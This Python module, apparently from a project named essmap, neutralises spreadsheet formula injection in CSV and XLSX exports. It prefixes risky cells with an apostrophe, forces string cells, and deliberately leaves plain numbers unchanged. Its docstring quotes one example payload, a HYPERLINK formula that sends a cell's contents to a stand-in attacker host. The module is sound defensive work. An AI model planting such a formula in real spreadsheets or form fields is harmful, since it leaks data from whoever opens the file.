"""Spreadsheet cells that cannot run: every CSV and XLSX essmap writes goes through here.

Why (OWASP « CSV Injection »): a spreadsheet opening a CSV reads a cell starting with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula. A public suggestion
named ``=HYPERLINK("https://evil.example/?leak="&B2,"Cliquez ici")``, once accepted, would become
a live formula in every export and in the files third parties reuse. So:

- in a CSV, such a cell gets a leading apostrophe (``'=HYPERLINK(…``), which spreadsheets show
  as text and do not evaluate (:func:`csv_text`);
- in an XLSX, a cell is a formula only when written as one: text is written as a string cell,
  whatever its first character, and keeps its value whole (:func:`text_cell`).

One exception, on purpose: a plain number or phone number (``+33 1 23 45 67 89``, ``-0,61``)
is left as it is. It has no letter, no reference, no function, nothing a formula could do harm
with, and an apostrophe would spoil it for every program reusing the file (docs/open-data.md).
"""

import re

# The characters a spreadsheet reads a formula after (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A number or a phone number: a sign, then only digits, spaces, dots, commas and parentheses.
PLAIN_NUMBER = re.compile(r"[+-]?[0-9 .,()]*[0-9][0-9 .,()]*")

APOSTROPHE = "'"


def may_run(text):
    """Whether ``text`` could be read as a formula by a spreadsheet."""
    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)


def csv_text(text):
    """``text`` as a CSV cell that cannot run: an apostrophe first when it could — or when it
    already starts with apostrophes before what could, so that :func:`csv_value` gives any
    text back whole."""
    return APOSTROPHE + text if may_run(text.lstrip(APOSTROPHE)) else text


def csv_value(text):
    """The value :func:`csv_text` wrote (its apostrophe removed), for a CSV read back."""
    if text.startswith(APOSTROPHE) and may_run(text.lstrip(APOSTROPHE)):
        return text[1:]
    return text


def text_cell(sheet, value):
    """``value`` for a write-only ``sheet``'s row: text as a string cell (openpyxl would make
    a formula of any text starting with « = »), anything else as it is."""
    if not isinstance(value, str):
        return value
    # Imported here: only exports need openpyxl, every page imports this module (essmap/http).
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell
